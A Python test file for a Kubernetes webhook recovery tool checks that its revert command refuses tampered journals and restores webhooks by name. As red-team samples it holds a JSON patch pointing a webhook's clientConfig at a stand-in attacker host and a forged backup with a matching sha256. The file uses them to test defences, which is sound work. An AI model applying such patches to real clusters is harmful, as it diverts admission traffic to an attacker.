"""The kubeconfig remedy's revert against the real kube-apiserver (issue 27 §2, §5): it replays only the inverse of
what the remedy does (failurePolicy, its own matchConditions, a re-create for a delete), on the webhook found by
name at revert time, whatever the run directory says."""

from __future__ import annotations

import hashlib
import json
import os

from breakglass.core import journal
from tests.real_apiserver_session import kube, real_apiserver  # noqa: F401 - the fixtures
from tests.test_codec import KYVERNO
from tests.test_kubeapi import NAME, api  # noqa: F401 - the fixture

HOOK = KYVERNO["webhooks"][0]["name"]


def _run(api):
    [run] = journal.list_runs(str(api.state))
    return run


def _edit_journal(run, change) -> None:
    with open(run.journal_path) as f:
        entries = [json.loads(line) for line in f if line.strip()]
    for e in entries:
        change(e)
    with open(run.journal_path, "w") as f:
        f.write("".join(json.dumps(e, sort_keys=True) + "\n" for e in entries))


EVIL = {"op": "add", "path": "/webhooks/0/clientConfig", "value": {"url": "https://attacker.invalid/hook"}}


def test_extra_operations_in_the_journal_are_never_replayed(api):
    """The red team's attack: operations added to the journal's patch moved the webhook to another host."""
    # issue 33: waits for the real apiserver's /readyz (it was --no-wait, now exit 8): exit 0 is its 200
    assert api.cli("recover", "--method", "kubeapi", "-w", NAME, "--action", "ignore", "--yes").returncode == 0
    api.ready_endpoints()

    def tamper(e):
        if e.get("event") == "planned":
            d = e["steps"][0]["data"]
            d["ops"].append(EVIL)
            d["reverse"].append(EVIL)
    _edit_journal(_run(api), tamper)
    before = api.get("validating", NAME)
    for args in ([], ["--force"]):  # without --force the backend guard may refuse first (exit 4): either way
        r = api.cli("revert", "--yes", *args)
        assert r.returncode == (4 if not args and b"not reverted yet" in r.stderr else 2), (r.stdout, r.stderr)
        assert b"Traceback" not in r.stderr and (b"never makes" in r.stderr or not args)
        now = api.get("validating", NAME)
        assert now["metadata"]["resourceVersion"] == before["metadata"]["resourceVersion"]  # nothing written
        assert "url" not in now["webhooks"][0]["clientConfig"]


def test_a_backup_of_another_object_is_never_re_created(api):
    """A delete's backup swapped for an object of the attacker's (its sha256 updated in the journal)."""
    # issue 33: waits for the real apiserver's /readyz (it was --no-wait, now exit 8): exit 0 is its 200
    assert api.cli("recover", "--method", "kubeapi", "-w", NAME, "--action", "delete", "--yes").returncode == 0
    api.ready_endpoints()
    run = _run(api)
    evil = json.loads(json.dumps(KYVERNO))
    evil["metadata"] = {"name": "attacker-hook", "uid": "x", "resourceVersion": "1"}
    data = json.dumps(evil).encode()
    with open(os.path.join(run.backups, "s1.json"), "wb") as f:
        f.write(data)

    def tamper(e):
        if e.get("event") == "backed-up":
            e["backup"]["object_sha256"] = hashlib.sha256(data).hexdigest()
    _edit_journal(run, tamper)
    for args in ([], ["--force"]):  # without --force the backend guard may refuse first (exit 4): either way
        r = api.cli("revert", "--yes", *args)
        assert r.returncode == (4 if not args and b"not reverted yet" in r.stderr else 2), (r.stdout, r.stderr)
        assert b"Traceback" not in r.stderr and (b"as the run read it" in r.stderr or not args)
        assert api.get("validating", NAME) is None and api.get("validating", "attacker-hook") is None


def test_force_revert_re_arms_the_webhook_by_name_not_by_index(api):
    """A webhook inserted at index 0 after the change: `revert --force` used to restore Fail on the inserted one
    and leave Kyverno's on Ignore, while saying it re-patched "to its earlier values"."""
    # issue 33: waits for the real apiserver's /readyz (it was --no-wait, now exit 8): exit 0 is its 200
    assert api.cli("recover", "--method", "kubeapi", "-w", NAME, "--action", "ignore", "--yes").returncode == 0
    cur = api.get("validating", NAME)
    inserted = json.loads(json.dumps(cur["webhooks"][0]))
    inserted.update(name="inserted.example.com", failurePolicy="Ignore")
    cur["webhooks"].insert(0, inserted)
    api.update("validating", cur)
    api.ready_endpoints()
    assert api.cli("revert", "--yes").returncode == 4  # changed since: a conflict without --force
    r = api.cli("revert", "--yes", "--force")
    # issue 33: re-armed, but ready_endpoints' endpoints cannot be called from here: unchecked, exit 8 (was 0)
    assert r.returncode == 8, (r.stdout, r.stderr)
    hooks = {w["name"]: w for w in api.etcd_obj()["webhooks"]}
    assert hooks[HOOK]["failurePolicy"] == "Fail" and hooks["inserted.example.com"]["failurePolicy"] == "Ignore"
    assert f"webhook {HOOK} failurePolicy back to Fail".encode() in r.stdout + r.stderr


def test_force_revert_says_when_the_webhook_it_changed_is_gone(api):
    # issue 33: waits for the real apiserver's /readyz (it was --no-wait, now exit 8): exit 0 is its 200
    assert api.cli("recover", "--method", "kubeapi", "-w", NAME, "--action", "ignore", "--yes").returncode == 0
    cur = api.get("validating", NAME)
    other = json.loads(json.dumps(cur["webhooks"][0]))
    other.update(name="renamed.example.com")
    cur["webhooks"] = [other]
    api.update("validating", cur)
    api.ready_endpoints()
    r = api.cli("revert", "--yes", "--force")
    assert r.returncode == 4, (r.stdout, r.stderr)  # nothing re-armed: a conflict, never "re-patched"
    assert HOOK.encode() in r.stdout + r.stderr and b"re-patched" not in r.stdout + r.stderr
    assert api.etcd_obj()["webhooks"][0]["failurePolicy"] == "Ignore"


def test_exclude_revert_removes_only_breakglass_conditions_by_name(api):
    # issue 33: waits for the real apiserver's /readyz (it was --no-wait, now exit 8): exit 0 is its 200
    assert api.cli("recover", "--method", "kubeapi", "-w", f"validating/{NAME}", "--action", "exclude",
                   "--yes").returncode == 0
    cur = api.get("validating", NAME)
    cur["webhooks"][0]["matchConditions"].insert(0, {"name": "operator-added", "expression": "true"})
    api.update("validating", cur)
    api.ready_endpoints()
    r = api.cli("revert", "--yes", "--force")
    # issue 33: re-armed, but ready_endpoints' endpoints cannot be called from here: unchecked, exit 8 (was 0)
    assert r.returncode == 8, (r.stdout, r.stderr)
    names = [c["name"] for c in api.etcd_obj()["webhooks"][0]["matchConditions"]]
    assert names == ["operator-added", "skip"]
